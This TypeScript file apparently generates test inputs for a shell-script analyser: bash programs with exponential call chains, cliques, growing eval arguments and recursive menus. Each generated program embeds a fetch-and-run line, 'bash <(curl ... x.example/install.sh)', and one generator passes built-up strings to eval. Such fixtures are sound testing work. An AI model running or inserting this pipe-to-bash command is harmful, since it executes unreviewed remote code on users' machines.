/** Small shell programs with exponentially many function calls or with unbounded recursion. */

const FETCH = "bash <(curl -fsSL https://x.example/install.sh)";

function range(from: number, to: number): number[] {
  return Array.from({ length: Math.max(0, to - from + 1) }, (_, index) => from + index);
}

/** Returns a program in which each function calls the previous one twice. */
export function chain(length: number): string {
  const links = range(1, length).map((at) => {
    const callee = `f${String(at - 1)}`;
    return `f${String(at)}() { ${callee}; ${callee}; }`;
  });
  return [`f0() { ${FETCH}; }`, ...links, `f${String(length)}`, ""].join("\n");
}

/** Returns a program in which each function calls all functions. */
export function clique(size: number): string {
  const calls = range(1, size)
    .map((at) => `f${String(at)};`)
    .join(" ");
  const members = range(1, size).map((at) => `f${String(at)}() { ${calls} install; }`);
  return [`install() { ${FETCH}; }`, ...members, "f1", ""].join("\n");
}

/** Returns a program in which each function calls the previous one twice, each time with its argument extended differently. */
export function growing(length: number, code: string): string {
  const links = range(1, length).map((at) => {
    const callee = `g${String(at - 1)}`;
    return `g${String(at)}() { ${callee} "$1; a"; ${callee} "$1; b"; }`;
  });
  return [`g0() { eval "$1"; }`, ...links, `g${String(length)} '${code}'`, ""].join("\n");
}

/** Returns a program with a menu: actions call the menu again, and submenus call themselves. */
export function menu(actions: number): string {
  const action = (at: number): string => {
    const id = String(at);
    const again =
      at % 3 === 0
        ? `  local info=$(tool show ${id})
  if [[ -n "$info" ]]; then
    name_${id}=$(echo "$info" | head -n1)
    run_${String(Math.max(1, Math.floor(at / 2)))} 0 > /dev/null 2>&1
  fi
`
        : "";
    return `run_${id}() {\n  tool action-${id}\n${again}  if [[ $# == 0 ]]; then\n    back\n  fi\n}\n`;
  };
  const submenu = (at: number): string => {
    const id = String(at);
    return `submenu_${id}() {
  read -rp "choice: " choice
  case "$choice" in
    0) menu ;;
    1) run_${id}; back ;;
    *) submenu_${id} ;;
  esac
}
`;
  };
  const submenus = range(1, Math.floor(actions / 4) + 1);
  const entries = range(1, actions).map((at) => `    ${String(at + 1)}) run_${String(at)} ;;\n`);
  const others = submenus.map((at) => `    s${String(at)}) submenu_${String(at)} ;;\n`);
  return `back() {
  read -r _
  menu
}
fetch_tool() {
  ${FETCH}
  run_1 0
}
${range(1, actions).map(action).join("")}${submenus.map(submenu).join("")}menu() {
  read -rp "number: " num
  case "$num" in
    1) fetch_tool ;;
${entries.join("")}${others.join("")}    *) menu ;;
  esac
}
menu
`;
}
